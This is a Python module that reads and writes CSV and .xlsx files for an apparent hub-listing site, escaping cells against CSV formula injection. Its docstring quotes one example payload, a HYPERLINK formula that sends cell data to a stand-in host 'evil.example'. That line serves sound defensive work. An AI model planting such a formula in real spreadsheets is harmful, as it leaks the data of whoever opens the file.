"""Spreadsheet files: CSV and .xlsx read into rows of text and written from them, every cell
made safe for the program that opens it.

**Formulas.** A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` (or a tab
or a carriage return before one) as a formula: `=HYPERLINK("https://evil.example/?"&A1)` in a
hub's name would send a maintainer's data away (CSV injection). As OWASP advises, `neutral`
puts a single quote before such a cell, so it opens as text; a plain number (`-1.2864`) is no
formula and stays a number. `as_written` undoes exactly that: it removes one quote from a cell
that starts with a quote followed by quotes and then one of those characters, so a text that
itself starts with quotes (`'s-Hertogenbosch`, `'=x'`) comes back as it was.

**CSV.** Written as UTF-8 with a byte order mark (Excel then reads it as UTF-8), commas, CRLF
between rows and quotes where a cell needs them (RFC 4180). Read as UTF-8 (with or without the
mark); the separator is found in the first row, which names the columns: a comma, a semicolon
(Excel in much of Europe saves "CSV" with semicolons) or a tab. A cell's line breaks, CRLF or
CR, become LF, as in a YAML file. Sizes are capped before anything is parsed.

**.xlsx** (openpyxl): the first sheet; a formula cell is refused (its value is what a program
last computed, not what was typed), numbers and dates typed in come back as text.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass, field
from datetime import date, datetime, time
from pathlib import Path
from typing import Any

from hubsite.problems import BuildFailed, Problem

MAX_FILE_BYTES = 100 * 1024 * 1024
MAX_ROWS = 200_000
MAX_COLUMNS = 2_000
MAX_CELL = 100_000  # characters: a page's text at most (fields.MAX_PAGE_BODY)
SEPARATORS = {",": "comma", ";": "semicolon", "\t": "tab"}
FORMULA_START = "=+-@\t\r"
_NEEDS_QUOTE = re.compile(f"'*[{re.escape(FORMULA_START)}]")
_QUOTED = re.compile(f"''*[{re.escape(FORMULA_START)}]")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


class SheetRefused(BuildFailed):
    """A file that cannot be read as a spreadsheet of hubs: where (its row and column) and why."""

    def __init__(self, where: str, row: int, column: int, message: str) -> None:
        super().__init__([Problem(where, row, column, "", message)])


def neutral(text: str) -> str:
    """A cell a spreadsheet program opens as text, never as a formula (OWASP's CSV injection advice)."""
    return "'" + text if _NEEDS_QUOTE.match(text) and not _PLAIN_NUMBER.fullmatch(text) else text


def as_written(cell: str) -> str:
    """The inverse of `neutral`."""
    return cell[1:] if _QUOTED.match(cell) else cell


@dataclass
class Sheet:
    """What a file holds: the first row's names, and the rows after it with their row numbers
    as a spreadsheet program numbers them (the names are row 1)."""

    header: list[str]
    rows: list[tuple[int, list[str]]] = field(default_factory=list)
    dialect: str = ""
    formulas: list[tuple[int, int]] = field(default_factory=list)  # (row, column) of formula cells (.xlsx)


def write_sheet(path: Path, header: list[str], rows: list[list[str]]) -> None:
    if path.suffix.lower() == ".xlsx":
        write_xlsx(path, header, rows)
    else:
        write_csv(path, header, rows)


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8-sig", newline="") as out:
        writer = csv.writer(out, lineterminator="\r\n")
        writer.writerow(header)
        writer.writerows([neutral(cell) for cell in row] for row in rows)


def write_xlsx(path: Path, header: list[str], rows: list[list[str]]) -> None:
    from openpyxl import Workbook  # only for .xlsx files

    book = Workbook(write_only=True)
    sheet = book.create_sheet("hubs")
    sheet.append(header)
    for row in rows:
        sheet.append([neutral(cell) for cell in row])
    book.save(path)


def read_sheet(path: Path, where: str) -> Sheet:
    """The file's rows as text, its cells as they were written (`as_written`); SheetRefused when
    it is too large, not UTF-8, or has no row naming the columns."""
    try:
        size = path.stat().st_size
    except OSError as error:
        raise SheetRefused(where, 1, 1, f"cannot be read: {error.strerror}") from None
    if size > MAX_FILE_BYTES:
        raise SheetRefused(where, 1, 1, f"is {size:,} bytes, more than the {MAX_FILE_BYTES:,} a spreadsheet of hubs may have: split it")
    sheet = read_xlsx(path, where) if path.suffix.lower() == ".xlsx" else read_csv(path.read_bytes(), where)
    sheet.header = [as_written(name).strip() for name in sheet.header]
    sheet.rows = [(number, [as_written(cell) for cell in cells]) for number, cells in sheet.rows]
    return sheet


def read_csv(raw: bytes, where: str) -> Sheet:
    try:
        text = raw.decode("utf-8-sig")
    except UnicodeDecodeError as error:
        row = raw[: error.start].count(b"\n") + 1
        raise SheetRefused(where, row, 1, "is not UTF-8 text: save it as \"CSV UTF-8\" (Excel) or with the UTF-8 character set") from None
    separator = separator_of(text, where)
    csv.field_size_limit(MAX_CELL + 1)
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=False)
    sheet = Sheet([], dialect=SEPARATORS[separator])
    try:
        for index, cells in enumerate(reader):
            take_row(sheet, index + 1, [one_kind_of_line_break(cell) for cell in cells], where)
    except csv.Error as error:
        raise SheetRefused(where, reader.line_num, 1, f"is not CSV as read here: {error}") from None
    return sheet


def separator_of(text: str, where: str) -> str:
    """The separator of the first row: the one that makes a column named `slug` of it."""
    first = next(csv.reader(io.StringIO(text[: 64 * 1024], newline=""), delimiter="\x1f"), [""])
    line = first[0] if first else ""
    for separator in SEPARATORS:
        if "slug" in [as_written(name).strip() for name in line.split(separator)]:
            return separator
    raise SheetRefused(where, 1, 1, "the first row must name the columns, separated by commas, semicolons or tabs, one of them `slug` "
                       "(python build.py export writes such a file)")


def one_kind_of_line_break(cell: str) -> str:
    return cell.replace("\r\n", "\n").replace("\r", "\n")


def take_row(sheet: Sheet, number: int, cells: list[str], where: str) -> None:
    if number > MAX_ROWS + 1:
        raise SheetRefused(where, number, 1, f"has more than {MAX_ROWS:,} rows: split it")
    if len(cells) > MAX_COLUMNS:
        raise SheetRefused(where, number, MAX_COLUMNS + 1, f"has more than {MAX_COLUMNS:,} columns")
    for column, cell in enumerate(cells, 1):
        if len(cell) > MAX_CELL:
            raise SheetRefused(where, number, column, f"holds a cell of {len(cell):,} characters, more than the {MAX_CELL:,} any field may have")
    if number == 1:
        sheet.header = cells
    elif any(cell.strip() for cell in cells):
        sheet.rows.append((number, cells))


def read_xlsx(path: Path, where: str) -> Sheet:
    from openpyxl import load_workbook  # only for .xlsx files
    from openpyxl.utils.exceptions import InvalidFileException

    try:
        book = load_workbook(path, read_only=True, data_only=False)
    except (InvalidFileException, OSError, KeyError, ValueError) as error:
        raise SheetRefused(where, 1, 1, f"is not an .xlsx workbook as read here: {error}") from None
    sheet = Sheet([], dialect="xlsx")
    try:
        for number, row in enumerate(book.worksheets[0].iter_rows(), 1):
            cells = []
            for column, cell in enumerate(row, 1):
                if getattr(cell, "data_type", None) == "f":
                    sheet.formulas.append((number, column))
                cells.append(xlsx_text(cell.value))
            take_row(sheet, number, trimmed(cells), where)
    finally:
        book.close()
    return sheet


def trimmed(cells: list[str]) -> list[str]:
    """A row without the empty cells after its last value (a sheet's rows are as wide as its widest)."""
    while cells and not cells[-1]:
        cells.pop()
    return cells


def xlsx_text(value: Any) -> str:
    """A cell's value as the text a CSV would hold: a date typed in as YYYY-MM-DD, 25.0 as 25."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.date().isoformat() if value.time() == time(0) else value.isoformat(sep=" ")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, time):
        return value.strftime("%H:%M")
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return one_kind_of_line_break(str(value))
